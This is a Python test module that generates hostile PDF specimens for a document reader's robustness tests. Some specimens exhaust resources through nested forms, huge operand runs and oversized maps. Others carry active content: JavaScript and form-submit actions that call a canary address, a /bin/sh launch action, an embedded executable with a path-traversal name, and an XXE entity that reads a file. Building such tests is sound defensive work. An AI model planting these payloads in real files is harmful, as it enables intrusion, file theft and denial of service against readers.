"""PDF pages that draw themselves, letters without meaning, actions and locks."""

from __future__ import annotations

import io
import random
import zlib
from collections.abc import Callable, Iterator

import pikepdf

from briefing.model.refusal import Refusal
from tests.hostile.pdf_parts import CATALOG, FONT, RESOURCES, SHOWN, one_page, page, pdf, stream
from tests.hostile.specimen import WORDS, Canary, Expect, Specimen

Made = tuple[str, Expect | Refusal, Callable[[], bytes]]

MB = 1 << 20
TEXT, KEPT = Expect.TEXT, Expect.KEPT


def forms() -> dict[str, Made]:
    drawn = page(f"{RESOURCES} /XObject << /X 6 0 R >>")
    head = "/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
    levels = [
        (6 + n, stream("/X Do " * 10 if n < 10 else "BT ET", f"{head} /Resources << /XObject << /X {7 + n} 0 R >> >>"))
        for n in range(11)
    ]
    itself = (6, stream("/X Do", f"{head} /Resources << /XObject << /X 6 0 R >> >>"))
    return {
        "form_of_itself": (
            "a form that draws itself",
            KEPT,
            lambda: pdf(one_page(stream("/X Do " + SHOWN), itself, leaf=drawn)),
        ),
        "forms_10_to_10": (
            "ten levels of forms, each drawn ten times",
            Refusal.CRASHED,
            lambda: pdf(one_page(stream(SHOWN + " /X Do"), *levels, leaf=drawn)),
        ),
        "states_100k": (
            "a hundred thousand states kept",
            TEXT,
            lambda: pdf(one_page(stream("q " * 100_000 + SHOWN))),
        ),
        "operands_1m": (
            "a million numbers before one word",
            TEXT,
            lambda: pdf(one_page(stream("1 " * 1_000_000 + SHOWN))),
        ),
        "unknown_words": (
            "words no PDF knows",
            TEXT,
            lambda: pdf(one_page(stream("frobnicate ) >> ] " * 1000 + SHOWN))),
        ),
        "outline_loop": (
            "bookmarks in a circle",
            KEPT,
            lambda: pdf(
                one_page(
                    None,
                    (6, "<< /First 7 0 R /Last 7 0 R >>"),
                    (7, "<< /Title (a) /Parent 6 0 R /Next 7 0 R /First 6 0 R >>"),
                    catalog=CATALOG[:-2] + "/Outlines 6 0 R >>",
                )
            ),
        ),
    }


def texts() -> dict[str, Made]:

    def strewn() -> str:
        dice = random.Random(1)
        return " ".join(f"1 0 0 1 {dice.randint(0, 600)} {dice.randint(0, 780)} Tm (x) Tj" for _ in range(400_000))

    ranges = "100 beginbfrange " + "<00000000> <7FFFFFFF> <0041> " * 100 + "endbfrange"
    nameless = "<< /Type /Font /Subtype /Type1 /BaseFont /ABCDEF+X /Encoding << /Differences [1 /g1 /g2 /g3 /g4] >> >>"
    hidden = f"{SHOWN} BT 3 Tr /F1 12 Tf 72 600 Td (INVISIBLE) Tj ET 1 1 1 rg BT 0 Tr /F1 12 Tf 72 500 Td (WHITE) Tj ET"
    return {
        "glyphs_400k": (
            "400,000 letters strewn over one page",
            Refusal.TOO_LARGE,
            lambda: pdf(
                one_page(stream(zlib.compress(f"BT /F1 1 Tf {strewn()} ET {SHOWN}".encode()), "/Filter /FlateDecode"))
            ),
        ),
        "cmap_2g": (
            "a map of two billion letters",
            TEXT,
            lambda: pdf(
                one_page(None, (6, stream(f"begincmap {ranges} endcmap")), font=FONT[:-2] + "/ToUnicode 6 0 R >>")
            ),
        ),
        "nameless_letters": (
            "letters without a meaning",
            Refusal.NO_TEXT,
            lambda: pdf(one_page(stream("BT /F1 12 Tf 72 700 Td <01020304> Tj ET"), font=nameless)),
        ),
        "hidden_text": ("invisible and white text", KEPT, lambda: pdf(one_page(stream(hidden)))),
        "font_size_0": (
            "letters without a size",
            Refusal.NO_TEXT,
            lambda: pdf(one_page(stream(SHOWN.replace("12 Tf", "0 Tf")))),
        ),
        "font_size_huge": (
            "letters of a billion points",
            TEXT,
            lambda: pdf(one_page(stream(SHOWN.replace("12 Tf", "1000000000 Tf")))),
        ),
        "no_font": ("a font that is not there", TEXT, lambda: pdf(one_page(leaf=page("")))),
        "long_string": (
            "one word of two million letters",
            TEXT,
            lambda: pdf(one_page(stream(f"{SHOWN} BT /F1 1 Tf 1 1 Td ({'x' * 2_000_000}) Tj ET"))),
        ),
        "far_away": (
            "words a billion points off the page",
            TEXT,
            lambda: pdf(one_page(stream(SHOWN.replace("72 700 Td", "1000000000 -1000000000 Td")))),
        ),
        "surrogates": (
            "a map to half a character",
            TEXT,
            lambda: pdf(
                one_page(
                    None,
                    (6, stream("begincmap 1 beginbfchar <53> <D800> endbfchar endcmap")),
                    font=FONT[:-2] + "/ToUnicode 6 0 R >>",
                ),
            ),
        ),
    }


def actions(canary: Canary) -> dict[str, Made]:
    script = (
        f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{canary.url}/js'\\)) >> "
        f"/AA << /WC << /S /URI /URI ({canary.url}/uri) >> >>"
    )
    attached = [
        (6, "<< /Type /Filespec /F (../../PWNED_pdf.exe) /EF << /F 7 0 R >> >>"),
        (7, stream(b"MZ" + bytes(100))),
    ]
    return {
        "javascript": (
            "scripts, programs and addresses to call",
            KEPT,
            lambda: pdf(
                one_page(
                    catalog=CATALOG[:-2] + script + " >>", leaf=page(more="/AA << /O << /S /Launch /F (/bin/sh) >> >>")
                )
            ),
        ),
        "external_stream": (
            "its content stands at an address",
            Refusal.EMPTY,
            lambda: pdf(one_page(f"<< /Length 0 /F << /FS /URL /F ({canary.url}/s) >> >>\nstream\n\nendstream")),
        ),
        "external_file": (
            "its content stands in another file",
            Refusal.EMPTY,
            lambda: pdf(one_page(f"<< /Length 0 /F ({canary.file}) >>\nstream\n\nendstream")),
        ),
        "attached_program": (
            "a program with a name that walks",
            KEPT,
            lambda: pdf(
                one_page(
                    None,
                    *attached,
                    catalog=CATALOG[:-2] + "/Names << /EmbeddedFiles << /Names [(../../PWNED.exe) 6 0 R] >> >> >>",
                )
            ),
        ),
        "form_submit": (
            "a form that sends itself",
            KEPT,
            lambda: pdf(one_page(catalog=CATALOG[:-2] + f"/OpenAction << /S /SubmitForm /F ({canary.url}/f) >> >>")),
        ),
        "xmp_entity": (
            "properties with an entity that reads a file",
            KEPT,
            lambda: pdf(
                one_page(
                    None,
                    (
                        6,
                        stream(
                            f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{canary.file}">]><x>&e;</x>',
                            "/Type /Metadata /Subtype /XML",
                        ),
                    ),
                    catalog=CATALOG[:-2] + "/Metadata 6 0 R >>",
                )
            ),
        ),
    }


def locked() -> Iterator[Specimen]:
    def made_for(user: str) -> bytes:
        made = io.BytesIO()
        with pikepdf.open(io.BytesIO(pdf(one_page()))) as whole:
            whole.save(made, encryption=pikepdf.Encryption(user=user, owner="o", R=6))
        return made.getvalue()

    words = "needs a password"
    yield Specimen("pdf_locked.pdf", words, Refusal.ENCRYPTED, lambda: made_for("secret"))
    yield Specimen(
        "pdf_owner_locked.pdf", "only its owner needs a password", TEXT, lambda: made_for(""), holds=WORDS[:8]
    )
